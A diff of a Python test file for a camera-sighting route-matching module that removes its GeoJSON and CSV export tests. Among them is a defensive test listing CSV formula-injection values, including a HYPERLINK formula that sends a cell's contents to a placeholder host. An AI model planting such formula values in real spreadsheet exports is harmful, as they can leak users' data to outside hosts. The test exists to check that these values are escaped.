@@ -1,12 +1,10 @@
-import csv
-import io
 import math
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
 from domain.cameras import Sighting
-from serving.matching.route import RouteSettings, likeliest_route, likeliest_routes, routes_csv, routes_geojson
+from serving.matching.route import RouteSettings, likeliest_route, likeliest_routes
 
 NOON = datetime(2026, 5, 1, 12, tzinfo=UTC)
 TIMELESS = RouteSettings(  # walks have no weight, they are possible or not
@@ -137,37 +135,3 @@ def test_a_confirmed_sighting_among_the_hits_is_one_stop() -> None:
     hit, confirmed = sighting(1, 0, 10, 0, 0.7), sighting(1, 0, 10, 0, 1.0)
     (route,) = likeliest_routes([hit], TIMELESS, confirmed=[confirmed], most=3)
     assert route.stops == [confirmed]
-
-
-def test_geojson_has_a_line_and_a_point_a_sighting() -> None:
-    route = [sighting(1, 0, 10, 0, 0.9), sighting(2, 100, 110, 100, 0.8)]
-    line, first, second, alone = routes_geojson([route, route[:1]])["features"]
-    assert line["geometry"]["type"] == "LineString"
-    assert line["geometry"]["coordinates"] == [first["geometry"]["coordinates"], second["geometry"]["coordinates"]]
-    assert first["geometry"]["coordinates"] == [128.6, 35.8]  # longitude first, as RFC 7946 says
-    assert (second["properties"]["route"], second["properties"]["stop"]) == (1, 2)
-    assert (alone["geometry"]["type"], alone["properties"]["route"]) == ("Point", 2)
-    assert first["properties"]["first_seen"] == "2026-05-01T12:00:00Z"
-
-
-def test_no_route_is_an_empty_collection() -> None:
-    assert routes_geojson([])["features"] == []
-
-
-def test_the_table_has_a_line_a_stop() -> None:
-    route = [sighting(1, 0, 10, 0, 0.9), sighting(2, 100, 110, 100, 0.8)]
-    lines = list(csv.DictReader(io.StringIO(routes_csv([route, route[:1]]))))
-    assert [(line["route"], line["stop"], line["tracklet_id"]) for line in lines] == [
-        ("1", "1", "1"),
-        ("1", "2", "2"),
-        ("2", "1", "1"),
-    ]
-    assert (lines[1]["camera_id"], lines[1]["first_seen"]) == ("north100", "2026-05-01T12:01:40Z")
-
-
-@pytest.mark.parametrize("name", ['=HYPERLINK("http://x"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
-def test_no_cell_of_a_table_is_a_formula(name: str) -> None:
-    west = sighting(1, 0, 1, 0, 0.9).model_copy(update={"district": name, "camera_id": name, "longitude": -1.5})
-    [row] = csv.DictReader(io.StringIO(routes_csv([[west]]), newline=""))
-    assert (row["district"], row["camera_id"]) == (f"'{name}", f"'{name}")
-    assert row["longitude"] == "-1.5"
